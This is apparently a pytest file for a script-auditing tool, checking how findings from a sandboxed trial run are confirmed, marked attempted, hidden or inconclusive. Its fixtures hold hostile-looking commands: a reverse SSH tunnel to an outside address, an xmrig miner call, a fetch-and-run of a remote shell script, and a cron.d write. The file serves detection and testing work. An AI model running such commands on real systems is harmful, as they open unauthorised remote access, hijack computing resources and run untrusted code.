"""Confirmation: what a trial saw, held against what was predicted; no status clears a finding."""

from __future__ import annotations

import pytest

from auditor.judge import Case, Terms, decide, findings_of, load_policy
from auditor.judge.confirm import Judged, confirm, is_instance
from auditor.model.effect import Effect
from auditor.model.finding import Evidence, Finding, Match, Status
from auditor.model.reading import Reading
from auditor.model.trial import Observation, Trial
from auditor.model.unit import Language, Script, Unit
from tests.judge.made import at, effect, match, rule

TUNNEL = "ssh -N -R 2222:localhost:22 ops@203.0.113.5"
FORWARD = "ssh.forward remote 2222 localhost"
TEXT = "echo begin\n" + TUNNEL + "\n"
EVIDENCE = Evidence("sinkhole", "ssh-forward", "bind_port=2222", 12.0, 7, TUNNEL)


def done(line: str) -> Effect:
    """Make an effect; where it stands is of no interest here."""
    return effect(line, at(1))


def reading_of(*lines: str, line: int = 2) -> tuple[Reading, tuple[Finding, ...]]:
    """Give a reading that predicts effects on one line, and the findings of a rule that minds them all."""
    matches = tuple(match(text, at(line)) for text in lines)
    effects = tuple(each.effect for each in matches if each.effect is not None)
    reading = Reading((Unit(0, Language.BASH, TEXT),), effects, ())
    return reading, findings_of(reading, matches)


def seen(*lines: str, failed: tuple[str, ...] = (), reached: frozenset[int] | None = frozenset({1, 2})) -> Trial:
    observed = [Observation(done(text), EVIDENCE, succeeded=True) for text in lines]
    observed += [Observation(done(text), EVIDENCE, succeeded=False) for text in failed]
    return Trial("full", 1, 10.0, "exit 0", tuple(observed), reached, is_complete=True)


def minded(*lines: str) -> Judged:
    """Say that the rule of the findings minds these observations too."""
    return Judged(tuple(Match(match(text, at(1)).rule, at(1), "", done(text)) for text in lines))


def statuses(lines: tuple[str, ...], trial: Trial, judged: Judged | None = None) -> list[Status]:
    reading, findings = reading_of(*lines)
    return [finding.status for finding in confirm(reading, findings, trial, judged or Judged())]


def test_a_forward_on_the_wire_confirms_a_command() -> None:
    """The protocol's own message confirms what the command line asked for, and the evidence quotes it."""
    reading, findings = reading_of(TUNNEL)
    (finding,) = confirm(reading, findings, seen(TUNNEL, FORWARD), minded(TUNNEL, FORWARD))
    assert finding.status is Status.CONFIRMED
    assert EVIDENCE in finding.evidence


def test_a_client_that_only_started_has_tried() -> None:
    """Without a forward on the wire a tunnel was attempted, not built."""
    assert statuses((TUNNEL,), seen(TUNNEL), minded(TUNNEL)) == [Status.ATTEMPTED]


def test_a_program_that_is_missing_was_attempted() -> None:
    assert statuses(("xmrig -o a.example:1",), seen(failed=("xmrig -o a.example:1",))) == [Status.ATTEMPTED]


def test_another_forward_is_hidden_and_confirms_nothing() -> None:
    """A port that nobody predicted is told on its own; the predicted one was not observed."""
    other = "ssh.forward remote 4022 localhost"
    assert statuses((TUNNEL,), seen(other), minded(other)) == [Status.NOT_OBSERVED, Status.HIDDEN]


@pytest.mark.parametrize(
    ("reached", "status"),
    [
        (frozenset({1, 2}), Status.NOT_OBSERVED),
        (frozenset({1}), Status.NOT_REACHED),
        (None, Status.INCONCLUSIVE),
    ],
)
def test_what_was_not_seen_says_why(reached: frozenset[int] | None, status: Status) -> None:
    assert statuses((TUNNEL,), seen(reached=reached)) == [status]


def test_a_run_that_was_cut_off_is_inconclusive() -> None:
    trial = Trial("full", 1, 10.0, "wall limit", (), frozenset({1, 2}), is_complete=False)
    assert statuses((TUNNEL,), trial) == [Status.INCONCLUSIVE]


def test_what_hides_stays_predicted() -> None:
    """Nothing in the world could confirm that a command was encoded."""
    found = match("hiding.decoded bash 1", at(2), rule(id="hidden-command", family="hiding"))
    assert found.effect is not None
    reading = Reading((Unit(0, Language.BASH, TEXT),), (found.effect,), ())
    (finding,) = confirm(reading, findings_of(reading, (found,)), seen(), Judged())
    assert finding.status is Status.PREDICTED


def test_what_a_prediction_brings_along_is_not_hidden() -> None:
    """A confirmed tunnel does not also show as connections that nobody foresaw."""
    along = ("net.connect tcp 203.0.113.5 22", "ssh.open ops 203.0.113.5 22", FORWARD)
    assert statuses((TUNNEL,), seen(TUNNEL, *along), minded(TUNNEL, *along)) == [Status.CONFIRMED]


def test_a_download_that_ran_confirms_what_was_loaded_from_the_network() -> None:
    fetched = "code.fetch https://x.example/i.sh bash"
    assert statuses(("code.load bash network",), seen(fetched)) == [Status.CONFIRMED]


def test_code_that_appeared_is_judged_unless_it_was_foreseen() -> None:
    """A command in code that ran is told although its branch did not; one that reading knew is not told twice."""
    new = Match(match(TUNNEL, at(1)).rule, at(1), "", done(TUNNEL))
    reading, _ = reading_of("xmrig -o a.example:1")
    (finding,) = confirm(reading, (), seen(), Judged(emerged=((new, EVIDENCE),)))
    assert (finding.status, finding.effect, finding.evidence) == (Status.HIDDEN, TUNNEL, (EVIDENCE,))
    known, findings = reading_of(TUNNEL)
    assert len(confirm(known, findings, seen(), Judged(emerged=((new, EVIDENCE),)))) == len(findings)


def test_no_status_clears_a_finding() -> None:
    """Whatever a trial says, the verdict is at least what it was without one."""
    reading, findings = reading_of(TUNNEL)
    script = Script.of(TEXT, Language.BASH)
    before = decide(Case(script, reading, findings, ()), Terms(load_policy())).verdict
    trials = [seen(), seen(reached=None), seen(reached=frozenset()), seen(TUNNEL), seen("true")]
    for trial in trials:
        judged = confirm(reading, findings, trial, Judged())
        after = decide(Case(script, reading, judged, ()), Terms(load_policy())).verdict
        assert after.order >= before.order


@pytest.mark.parametrize(
    ("predicted", "observed", "is_same"),
    [
        ("xmrig -o a.example:1", "xmrig -o a.example:1 --tls", True),
        ("xmrig -o a.example:1", "xmrig -o b.example:1", False),
        ("./tool --start", "tool --start", False),
        ("file.write worker.log", "file.write /var/tmp/run/worker.log", True),
        ("file.write worker.log", "file.write /var/tmp/run/other-worker.log", False),
        ("file.write /etc/cron.d/x", "file.write /srv/etc/cron.d/x", False),
    ],
)
def test_an_instance_has_all_the_known_words(predicted: str, observed: str, is_same: bool) -> None:
    assert is_instance(done(predicted), done(observed)) == is_same
